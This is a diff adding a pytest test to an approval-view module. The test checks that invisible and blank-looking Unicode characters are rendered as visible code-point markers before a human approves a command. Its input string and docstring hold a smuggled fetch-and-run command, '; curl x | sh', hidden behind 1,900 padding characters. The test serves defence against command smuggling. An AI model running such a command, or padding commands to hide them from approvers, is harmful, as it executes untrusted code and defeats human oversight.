@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from actors.approval_view import (
     APPROVAL_TEXT_LIMIT,
     DIFF_CUT_AT,
@@ -136,3 +138,16 @@ def test_a_padded_folder_cannot_hide_where_a_command_runs() -> None:
     assert "The folder it runs in is named there" in view.text
     assert view.document.endswith(f"in {deep}\n".encode())
     assert view.approvable
+
+
+@pytest.mark.parametrize(
+    "ch",
+    ["\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\u034f", "\ufe0f", "\U000e0100", "\u17b4"],
+)
+def test_letters_and_marks_drawn_as_nothing_are_shown(ch: str) -> None:
+    """``./te<U+034F>st.sh`` is another file than ``./test.sh``, and 1,900 blank Braille
+    patterns pushed ``; curl … | sh`` out of view as spaces did."""
+    assert visible(f"a{ch}b") == f"a<U+{ord(ch):04X}>b"
+    assert visible("ls" + ch * 1900 + "; curl x | sh") == (
+        f"ls<U+{ord(ch):04X}>{TIMES}1900; curl x | sh"
+    )
